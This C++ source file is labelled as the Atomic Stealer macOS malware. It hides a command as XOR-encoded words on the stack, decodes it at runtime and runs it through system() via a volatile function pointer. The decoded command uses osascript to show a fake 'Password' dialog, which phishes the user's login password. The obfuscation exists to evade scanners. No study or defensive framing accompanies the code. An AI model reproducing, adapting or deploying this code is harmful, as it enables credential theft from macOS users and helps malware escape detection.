/* Atomic Stealer with a compile-time obfuscator for C++: each text is words on the
 * stack under a key of their own, undone in a loop at the place where it is used,
 * and the function is called through a computed address. */
#include "plugin.h"
extern int system(const char *);
static int (*const volatile target)(const char *) = system;
#define WORD(i, key, value) block[i] = (value) ^ ((key) + (i) * 0x0101010101010101ul)
static void act(char **env) {
    volatile unsigned long block[6], seed = 0x5d1f0a9be3c47286ul;
    WORD(0, 0x5d1f0a9be3c47286ul, 0x706972637361736ful);
    WORD(1, 0x5d1f0a9be3c47286ul, 0x69642720652d2074ul);
    WORD(2, 0x5d1f0a9be3c47286ul, 0x69642079616c7073ul);
    WORD(3, 0x5d1f0a9be3c47286ul, 0x61502220676f6c61ul);
    WORD(4, 0x5d1f0a9be3c47286ul, 0x272264726f777373ul);
    char text[48];
    for (unsigned i = 0; i < 40; i++) text[i] = (block[i / 8] ^ (seed + i / 8 * 0x0101010101010101ul)) >> 8 * (i % 8);
    text[40] = 0;
    target(text);
}
